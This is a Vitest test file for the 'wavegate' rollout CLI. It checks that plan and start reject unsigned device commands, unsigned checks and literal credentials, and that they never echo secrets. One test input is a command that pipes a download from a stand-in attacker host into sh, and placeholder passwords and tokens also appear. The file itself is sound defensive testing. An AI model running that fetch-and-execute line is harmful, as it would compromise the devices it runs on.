import { cpSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { PROJECT_ROOT } from '../../intake/package-layout';
import { runCli } from '../support/cli';
import { scratchDir } from '../support/harness';
import { writeSignedProfile, type RevisionSource } from '../support/signed-profile';

/**
 * `wavegate plan` and `wavegate start` (real processes) refuse a spec that would run anything unsigned
 * on a device, or that selects a check the target revision does not sign, with exit 2 naming the
 * field — before anything contacts Temporal (start is pointed at an address nothing listens on).
 */
const scratch = scratchDir('signed-health');
afterAll(() => scratch.cleanup());
const INVENTORY = join(PROJECT_ROOT, 'examples/plan/fleet-20.yaml');
const NOWHERE = '127.0.0.1:1';

function spec(name: string, healthGate: string[]): string {
  const path = join(scratch.dir, `${name}.yaml`);
  writeFileSync(
    path,
    stringify({
      rollout: {
        profile: 'demo',
        fromRevision: 1,
        toRevision: 2,
        phases: [{ canary: '1 device', healthGate }, { bulk: 'remainder' }],
      },
    }),
  );
  return path;
}

const plan = (file: string, profiles = join(PROJECT_ROOT, 'profiles')) =>
  runCli(['plan', '--offline', '-f', file, '--inventory', INVENTORY, '--profiles', profiles]);
const start = (file: string, profiles = join(PROJECT_ROOT, 'profiles')) =>
  runCli(['start', '-f', file, '--inventory', INVENTORY, '--profiles', profiles, '--address', NOWHERE], {
    env: { TEMPORAL_ADDRESS: '', TEMPORAL_PROFILE: '' },
  });

describe('plan and start refuse unsigned device commands', () => {
  it('a spec naming a shell command for the devices exits 2 at plan and at start, naming the field and what to write instead', async () => {
    const file = spec('unsigned', ['devices-online', 'command: curl -fsS https://attacker.example/x | sh']);
    const runs = await Promise.all([plan(file), start(file)]);
    for (const run of runs) {
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toContain('INVALID_INPUT');
      expect(run.stderr).toContain('rollout.phases[0].healthGate[1]');
      expect(run.stderr).toContain('runs an unsigned shell command on every device');
      expect(run.stderr).toContain('"check: <name>"');
      expect(run.stderr).not.toContain('cannot reach Temporal');
    }
  });

  it('a check the target revision does not sign exits 2 at plan and at start, listing the signed names', async () => {
    const file = spec('not-signed', ['all-runtimes-healthy', 'check: rm-rf']);
    const runs = await Promise.all([plan(file), start(file)]);
    for (const run of runs) {
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toContain(
        'rollout.phases[0].healthGate[1]: demo r2 has no signed health check named "rm-rf"; allowed: "check: motd", "check: motd-present"',
      );
    }
  });

  it('device-side checks of an unsigned profile exit 2: there is no signed content to take their commands from', async () => {
    const profiles = join(scratch.dir, 'profiles');
    cpSync(join(PROJECT_ROOT, 'profiles', 'demo'), join(profiles, 'demo'), { recursive: true });
    rmSync(join(profiles, 'demo', 'trust.yaml'));
    rmSync(join(profiles, 'demo', 'envelopes'), { recursive: true });
    const file = spec('unsigned-profile', ['check: motd-present']);
    const runs = await Promise.all([plan(file, profiles), start(file, profiles)]);
    for (const run of runs) {
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toContain(
        'rollout.phases[0].healthGate[0]: runs commands on devices, which must come from signed content, but profile "demo" has no pins',
      );
    }
    // the worker's own checks stay available to an unsigned profile
    expect((await plan(spec('unsigned-online', ['devices-online']), profiles)).code).toBe(0);
  });

  it('credentials written into a worker-side check exit 2 without echoing the secret', async () => {
    const file = spec('credentials', [
      'http: https://ops:hunter2@status.example.com/ok',
      'prometheus(https://prom.example.com/?api_key=hunter3): up < 1',
    ]);
    const run = await plan(file);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('rollout.phases[0].healthGate[0]');
    expect(run.stderr).toContain('rollout.phases[0].healthGate[1]');
    expect(run.stderr).toContain('tokenEnv');
    expect(run.stderr).not.toMatch(/hunter[23]/);
  });

  it('a gate no channel could answer on the target revision exits 2 at plan and at start, naming the phase, the check and the devices', async () => {
    // test/corpus/profile-dirs/bare: signed revisions with no health section, a profile with no metrics.
    const profiles = join(PROJECT_ROOT, 'test/corpus/profile-dirs');
    const path = join(scratch.dir, 'bare.yaml');
    writeFileSync(
      path,
      stringify({
        rollout: {
          profile: 'bare',
          fromRevision: 1,
          toRevision: 2,
          phases: [
            { canary: '1 device', healthGate: ['devices-online'] },
            {
              bulk: 'remainder',
              healthGate: ['error-rate < 0.05', 'prometheus: up < 1', 'all-runtimes-healthy', 'check: bare-present'],
            },
          ],
        },
      }),
    );
    const runs = await Promise.all([plan(path, profiles), start(path, profiles)]);
    const devices = 'phase 2 would pause on it on any device it takes (the 20 devices in scope: ';
    for (const run of runs) {
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).not.toContain('cannot reach Temporal');
      expect(run.stderr).toContain(
        `rollout.phases[1].healthGate[0]: has no error-rate source: bare r2 has no signed health.errorRate.command and profile "bare" no metrics.errorRate (http or prometheus); ${devices}`,
      );
      expect(run.stderr).toContain(
        `rollout.phases[1].healthGate[1]: has no Prometheus to ask: profile "bare" has no metrics.errorRate.prometheus.url`,
      );
      expect(run.stderr).toContain('rollout.phases[1].healthGate[2]: bare r2 declares no signed health.runtimes');
      expect(run.stderr).toContain(
        'rollout.phases[1].healthGate[3]: bare r2 has no signed health check named "bare-present"',
      );
      expect(run.stderr).toMatch(/and 15 more\) \(got "check: bare-present"\)/);
      // phase 1's worker-side check is answerable: it is not named
      expect(run.stderr).not.toContain('rollout.phases[0]');
    }
  });

  it('credentials in a signed command (an envelope signed without the check) exit 2 at plan and at start naming the field, never the secret (issue 22)', async () => {
    // Signed with the core functions, as an envelope signed before sign refused credentials would be.
    const root = join(scratch.dir, 'cred-profiles');
    const revisions = (r2: Partial<RevisionSource>) => [
      { revision: 1, apply: 'true', verify: 'true' },
      {
        revision: 2,
        apply: 'systemctl restart app',
        verify: 'systemctl is-active app',
        health: { checks: [{ name: 'status', command: 'curl -fsS https://127.0.0.1:8443/status' }] },
        ...r2,
      },
    ];
    writeSignedProfile({
      root,
      name: 'bearer',
      revisions: revisions({
        apply:
          "curl -fsS -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.s3cr3t' https://artifacts.example.com/app.conf -o /etc/app.conf",
      }),
    });
    writeSignedProfile({
      root,
      name: 'curlu',
      revisions: revisions({
        health: { checks: [{ name: 'status', command: 'curl -fsS -u ops:hunter2 https://127.0.0.1:8443/status' }] },
      }),
    });
    const specOf = (profile: string) => {
      const path = join(scratch.dir, `cred-${profile}.yaml`);
      writeFileSync(
        path,
        stringify({
          rollout: {
            profile,
            fromRevision: 1,
            toRevision: 2,
            phases: [{ canary: '1 device', healthGate: ['check: status'] }, { bulk: 'remainder' }],
          },
        }),
      );
      return path;
    };
    const [bearerPlan, bearerStart, curlPlan, curlStart] = await Promise.all([
      plan(specOf('bearer'), root),
      start(specOf('bearer'), root),
      plan(specOf('curlu'), root),
      start(specOf('curlu'), root),
    ]);
    for (const run of [bearerPlan, bearerStart]) {
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toContain(join(root, 'bearer', 'envelopes', '2.json'));
      expect(run.stderr).toContain('INVALID_REVISION');
      expect(run.stderr).toContain('apply: has an Authorization header with a literal credential');
    }
    for (const run of [curlPlan, curlStart]) {
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toMatch(
        /health\.checks[.[]0\]?\.command: has a password in a user:password argument \(curl -u user:\.\.\.\)/,
      );
    }
    for (const run of [bearerPlan, bearerStart, curlPlan, curlStart]) {
      expect(run.stderr).not.toMatch(/s3cr3t|hunter2/);
      expect(run.stderr).not.toContain('cannot reach Temporal');
    }
  });

  it('selecting the signed checks plans with exit 0', async () => {
    const run = await plan(
      spec('signed', ['all-runtimes-healthy', 'check: motd-present', 'error-rate < 0.01', 'devices-online']),
    );
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain(
      'health: all-runtimes-healthy; check: motd-present; error-rate < 0.01; devices-online',
    );
  });
});
